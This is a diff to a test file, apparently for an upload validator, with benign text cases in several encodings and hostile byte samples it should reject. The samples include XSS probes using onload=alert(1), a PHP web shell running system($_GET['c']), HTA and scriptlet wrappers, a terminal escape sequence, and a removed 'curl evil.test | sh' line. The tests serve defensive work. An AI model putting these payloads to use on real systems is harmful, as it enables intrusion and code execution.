@@ -6,7 +6,23 @@ from tests.hostile.case import Case
 
 _POEM = "静夜思\n床前明月光，疑是地上霜。\n举头望明月，低头思故乡。\n"
 
+_LESSONS: tuple[tuple[str, bytes], ...] = (
+    ("a program in Python", b"#!/usr/bin/env python3\nprint('hello')\n"),
+    ("a shell script", b"#!/bin/sh\nls\n"),
+    ("a text that begins with a tag", "<html> 标签的用法\n".encode()),
+    ("a text that begins with a declaration", b"<!DOCTYPE html> is the first line of a page.\n"),
+    (
+        "a text that begins with a script's tag",
+        "<script> 标签和 onload 属性的用法，one = 1\n".encode(),
+    ),
+    ("a page that does nothing", b"<!DOCTYPE html><html><body><h1>a</h1></body></html>"),
+)
+
 HONEST = [
+    *(Case(f"{what} to read", "a.txt", partial(bytes, content)) for what, content in _LESSONS),
+    *(Case(f"{what} to show", "a.md", partial(bytes, content)) for what, content in _LESSONS),
+    Case("a text with soft breaks", "a.txt", lambda: "第一行\v第二行\n".encode()),
+    Case("a text in UTF-16", "a.txt", lambda: _POEM.encode("utf-16")),
     Case("a text", "静夜思.txt", _POEM.encode, declared="text/plain"),
     Case("a text with a mark before", "a.txt", lambda: b"\xef\xbb\xbf" + _POEM.encode()),
     Case("a text in GB18030", "a.txt", lambda: _POEM.encode("gb18030")),
@@ -23,7 +39,6 @@ _SCRIPTS: tuple[tuple[str, bytes], ...] = (
     ("a page after a comment", b"<!-- lesson --><html><body onload=alert(1)>"),
     ("a page after a mark", b"\xef\xbb\xbf<html><script>1</script>"),
     ("an SVG", b"<?xml version='1.0'?><svg onload='alert(1)'/>"),
-    ("a shell script", b"#!/bin/sh\ncurl evil.test | sh\n"),
     ("PHP", b"<?php system($_GET['c']);"),
     ("an HTML application", b"<hta:application id=x /><script>1</script>"),
     ("a script component", b"<scriptlet><script>1</script></scriptlet>"),
@@ -35,13 +50,17 @@ _SCRIPTS: tuple[tuple[str, bytes], ...] = (
 
 HOSTILE = [
     *(Case(f"{what} named text", "a.txt", partial(bytes, content), "type-not-accepted") for what, content in _SCRIPTS),
-    *(Case(f"{what} named Markdown", "a.md", partial(bytes, content), "type-not-accepted") for what, content in _SCRIPTS[:6]),
+    *(Case(f"{what} named Markdown", "a.md", partial(bytes, content), "type-not-accepted") for what, content in _SCRIPTS[:5]),
+    *(Case(f"{what} with no ending", "README", partial(bytes, content), "type-not-accepted") for what, content in _LESSONS),
+    *(Case(f"{what} named picture", "a.png", partial(bytes, content), "type-not-accepted") for what, content in _LESSONS),
+    Case("a page in UTF-16", "a.txt", lambda: "<html><body onload=alert(1)>".encode("utf-16"), "type-not-accepted"),
+    Case("a program in UTF-16", "a.txt", lambda: b"\xff\xfe" + bytes(range(256)) * 9, "encoding"),
+    Case("half a letter in UTF-16", "a.txt", lambda: _POEM.encode("utf-16") + b"x", "encoding"),
     Case("an empty file", "a.txt", lambda: b"", "empty"),
     Case("an empty picture", "a.png", lambda: b"", "empty"),
     Case("a text with a NUL", "a.txt", lambda: b"abc\0def", "type-not-accepted"),
     Case("a text with a NUL far inside", "a.txt", lambda: b"abc " * 9000 + b"\0" + b"def " * 9000, "encoding"),
     Case("a text that moves the cursor", "a.txt", lambda: b"\x1b]0;evil\x07\x1b[2J", "encoding"),
-    Case("a text in UTF-16", "a.txt", lambda: _POEM.encode("utf-16"), "encoding"),
     Case("noise", "a.txt", lambda: bytes(range(1, 256)) * 9, "encoding"),
     Case("a text of 21 MB", "a.txt", lambda: b"0123456\n" * (21 << 17), "too-large"),
     Case("a text with no ending", "README", _POEM.encode, "name-mismatch"),
